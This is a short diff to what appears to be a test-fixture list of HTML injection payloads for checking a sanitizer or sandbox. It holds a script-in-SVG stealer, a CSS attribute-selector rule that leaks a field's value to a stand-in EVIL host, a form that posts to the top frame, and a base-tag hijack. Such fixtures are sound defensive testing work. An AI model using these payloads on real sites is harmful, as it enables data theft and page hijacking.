@@ -34,10 +34,7 @@ export const attacks: Attack[] = [
   { name: "a script in a drawing", html: `<svg><script>${STEAL}</script></svg>` },
   { name: "a link in a drawing", html: drawing(`xlink:href="${LINK}"`), isClicked },
   { name: "a link in a drawing that moves away from its address", html: drawing('href="#x"', setLink), isClicked },
-  {
-    name: "styles that read what stands outside",
-    html: `<style>#outside[value^="lectern_s"]{background:url(${EVIL}/?s)}</style>`,
-  },
+  { name: "styles that read what is outside", html: `<style>#outside[value^="l"]{background:url(${EVIL}/?s)}</style>` },
   { name: "a form for the top", html: button(`action="${EVIL}/" target="_top"`), isClicked },
   { name: "another base", html: `<base href="${EVIL}/"><img src="a.png">` },
   { name: "an object", html: `<object data="${EVIL}/a.html"></object>` },
